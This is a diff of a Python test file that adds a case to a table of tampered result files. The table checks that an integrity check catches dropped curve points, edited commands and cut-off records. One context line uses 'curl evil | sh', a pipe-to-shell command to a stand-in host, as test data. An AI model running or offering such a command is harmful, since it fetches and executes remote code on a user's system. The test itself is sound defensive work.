@@ -861,6 +861,10 @@ TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
         {"numbers"},
         saying(True, cells__1__curve__0__accuracy__mean=0.3 + 1e-12),
     ),
+    "a point of a curve that was left out, sealed again": (
+        {"numbers"},
+        lambda p: edit(p, lambda c: c["cells"][1]["curve"].pop(0) and None, True),
+    ),
     "an edited command, sealed again": ({"numbers"}, saying(True, command="curl evil | sh")),
     "a smaller alphabet, sealed again": ({"numbers"}, saying(True, alphabet="FloatVectors")),
     "a record that was cut off": ({"records"}, lambda p: repack(p, lambda t: [*t[:5], t[5][:90]])),
